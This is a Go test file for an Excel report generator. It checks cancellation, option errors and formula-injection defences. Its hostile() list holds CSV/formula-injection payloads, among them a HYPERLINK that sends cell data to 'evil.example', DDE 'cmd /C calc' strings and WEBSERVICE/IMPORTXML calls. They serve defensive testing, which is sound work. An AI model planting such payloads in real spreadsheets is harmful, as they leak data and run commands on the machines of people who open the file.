package report

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"feedbackdesk/backend/feedback"
	"feedbackdesk/backend/sqlite"
)

// TestCancelLeavesNoFile: cancelling at any stage returns a canceled
// error, leaves no new file (no partial temp file either) and keeps the
// file that was already at the path untouched.
func TestCancelLeavesNoFile(t *testing.T) {
	db := demoDB(t)
	for _, stage := range stages {
		dir := t.TempDir()
		path := filepath.Join(dir, "report.xlsx")
		if err := os.WriteFile(path, []byte("the previous report"), 0o644); err != nil {
			t.Fatal(err)
		}
		ctx, cancel := context.WithCancel(context.Background())
		_, err := Generate(ctx, db, Options{Month: "2026-10", IncludeData: true}, path, testNow, func(p Progress) {
			if p.Stage == stage {
				cancel()
			}
		})
		cancel()
		var fe *feedback.Error
		if !errors.As(err, &fe) || fe.Code != feedback.ECANCELED || fe.Key != "error.report.canceled" {
			t.Fatalf("cancel at %s: err %v, want the canceled error", stage, err)
		}
		entries, _ := os.ReadDir(dir)
		if len(entries) != 1 {
			t.Fatalf("cancel at %s left %d files: %v", stage, len(entries), entries)
		}
		if body, _ := os.ReadFile(path); string(body) != "the previous report" {
			t.Fatalf("cancel at %s changed the existing file", stage)
		}
	}
}

// hostile are formula-injection payloads (OWASP CSV injection, DDE,
// full-width and leading-space variants) put into every kind of user text.
func hostile() []string {
	bases := []string{`=1+1`, `=HYPERLINK("http://evil.example/?x="&A1,"click")`, `+SUM(1,2)`, `-2+3`, `@SUM(A1:A2)`,
		"\t=1+1", "\r=1+1", `=cmd|' /C calc'!A0`, `＝1+1`, `＋1`, `－1`, `＠A1`, ` =1+1`, `=IMPORTXML(CONCAT("http://x/",A1),"//a")`,
		`DDE("cmd";"/C calc";"!A0")`, `=WEBSERVICE("http://x")`, `-@SUM(1)`}
	var out []string
	for _, b := range bases {
		out = append(out, b, b+" 客户", b+" 😀", "\u0007"+b)
	}
	return out
}

// poison writes hostile texts into October's names, comments, titles,
// categories, handlers, segments, tags and notes.
func poison(t *testing.T, db *sqlite.DB) int {
	t.Helper()
	ps := hostile()
	i := 0
	next := func() string { i++; return ps[i%len(ps)] }
	exec := func(q string, args ...any) {
		if _, err := db.SQL().Exec(q, args...); err != nil {
			t.Fatalf("%s: %v", q, err)
		}
	}
	ids := func(q string) []int64 {
		rows, err := db.SQL().Query(q)
		if err != nil {
			t.Fatal(err)
		}
		defer rows.Close()
		var out []int64
		for rows.Next() {
			var id int64
			rows.Scan(&id)
			out = append(out, id)
		}
		return out
	}
	for _, id := range ids(`SELECT id FROM customers`) {
		exec(`UPDATE customers SET name = ?, company = ? WHERE id = ?`, next(), next(), id)
	}
	for _, id := range ids(`SELECT id FROM handlers`) {
		exec(`UPDATE handlers SET name = ? WHERE id = ?`, next(), id)
	}
	for _, id := range ids(`SELECT id FROM responses WHERE month_key = 202610`) {
		exec(`UPDATE responses SET agent = ?, region = ?, product = ?, note = ? WHERE id = ?`, next(), next(), next(), next(), id)
		exec(`UPDATE answers SET text = ? WHERE response_id = ? AND question_id IN (SELECT id FROM questions WHERE type = 'text')`, next(), id)
		exec(`INSERT OR IGNORE INTO response_tags (response_id, tag) VALUES (?, ?)`, id, next())
	}
	for _, id := range ids(`SELECT id FROM tickets WHERE month_key = 202610`) {
		exec(`UPDATE tickets SET title = ?, description = ?, category = ? WHERE id = ?`, next(), next(), next(), id)
	}
	exec(`UPDATE surveys SET title = ?, title_en = ?`, next(), next())
	return len(ps)
}

// TestHostileTextIsNeverAFormula: with formula payloads in every user
// text, no cell of any sheet is a formula (no <f> in the sheet XML) and
// every text cell that would start a formula begins with the inert quote.
func TestHostileTextIsNeverAFormula(t *testing.T) {
	db := demoDB(t)
	if n := poison(t, db); n < 50 {
		t.Fatalf("only %d payloads", n)
	}
	for _, lang := range []string{"zh", "en"} {
		res := generate(t, db, Options{Month: "2026-10", Lang: lang, IncludeData: true})
		if res.Neutralized == 0 || res.DataRows == 0 {
			t.Fatalf("%s: nothing neutralised: %+v", lang, res)
		}
		sheets := zipParts(t, res.Path, "xl/worksheets/sheet")
		if len(sheets) != 8 {
			t.Fatalf("%s: %d sheets", lang, len(sheets))
		}
		formula := regexp.MustCompile(`<f[ >]`)
		for name, xml := range sheets {
			if formula.MatchString(xml) {
				t.Errorf("%s %s has a formula cell", lang, name)
			}
		}
		f := openBook(t, res.Path)
		risky := 0
		for _, sh := range f.GetSheetList() {
			rows, err := f.GetRows(sh, excelize.Options{RawCellValue: true})
			if err != nil {
				t.Fatal(err)
			}
			for r, row := range rows {
				for c, v := range row {
					trimmed := strings.TrimLeft(v, " \u00a0")
					if v == "" || !strings.ContainsAny(trimmed[:min(len(trimmed), 3)], "=+-@＝＋－＠\t\r") {
						continue
					}
					typ, _ := f.GetCellType(sh, at(c+1, r+1))
					if typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString && typ != excelize.CellTypeFormula {
						continue // a number: "-8" is a negative number, not text
					}
					if first := []rune(v)[0]; strings.ContainsRune("=+-@＝＋－＠\t\r ", first) {
						risky++
						t.Errorf("%s %s!%s = %q starts like a formula", lang, sh, at(c+1, r+1), v)
					}
				}
			}
		}
		if risky > 0 {
			t.Fatalf("%s: %d risky cells", lang, risky)
		}
	}
}

// TestOptionsAreChecked: a bad language, month, path or folder is a coded
// error, and nothing is written.
func TestOptionsAreChecked(t *testing.T) {
	db := openDB(t, filepath.Join(t.TempDir(), "feedback.db"))
	dir := t.TempDir()
	ok := filepath.Join(dir, "r.xlsx")
	for _, c := range []struct {
		opts Options
		path string
		key  string
	}{
		{Options{Month: "2026-10", Lang: "fr"}, ok, "error.report.lang_invalid"},
		{Options{Month: "2026-13"}, ok, "error.report.month_invalid"},
		{Options{Month: "10/2026"}, ok, "error.report.month_invalid"},
		{Options{Month: "2026-10", From: "2026-10-01"}, ok, "error.report.period_conflict"},
		{Options{Month: "2026-10"}, filepath.Join(dir, "r.csv"), "error.report.path_invalid"},
		{Options{Month: "2026-10"}, "", "error.report.path_invalid"},
		{Options{Month: "2026-10"}, filepath.Join(dir, "missing", "r.xlsx"), "error.report.dir_missing"},
		{Options{From: "2026-10-31", To: "2026-10-01"}, ok, "error.period.reversed"},
	} {
		_, err := Generate(context.Background(), db, c.opts, c.path, testNow, nil)
		var fe *feedback.Error
		if !errors.As(err, &fe) || fe.Key != c.key {
			t.Errorf("%+v %q: err %v, want %s", c.opts, c.path, err, c.key)
		}
	}
	if entries, _ := os.ReadDir(dir); len(entries) != 0 {
		t.Fatalf("files written: %v", entries)
	}
}

// TestEmptyDatabase: a database without data still gives a complete
// workbook (blank figures, "no data" verdicts), not an error.
func TestEmptyDatabase(t *testing.T) {
	db := openDB(t, filepath.Join(t.TempDir(), "feedback.db"))
	res := generate(t, db, Options{Month: "2026-10", IncludeData: true})
	if len(res.Sheets) != 8 || res.Responses != 0 || res.DataRows != 0 {
		t.Fatalf("empty report: %+v", res)
	}
}

// TestUnwritablePlaceIsAnError: when the target cannot be replaced (here a
// folder stands where the file should go), the error says so and no
// temporary file is left.
func TestUnwritablePlaceIsAnError(t *testing.T) {
	db := openDB(t, filepath.Join(t.TempDir(), "feedback.db"))
	dir := t.TempDir()
	path := filepath.Join(dir, "report.xlsx")
	if err := os.Mkdir(path, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(path, "keep"), []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	_, err := Generate(context.Background(), db, Options{Month: "2026-10"}, path, testNow, nil)
	var fe *feedback.Error
	if !errors.As(err, &fe) || fe.Key != "error.report.write_failed" || fe.Code != feedback.EUNAVAILABLE {
		t.Fatalf("err %v, want write_failed", err)
	}
	if entries, _ := os.ReadDir(dir); len(entries) != 1 {
		t.Fatalf("left behind: %v", entries)
	}
}
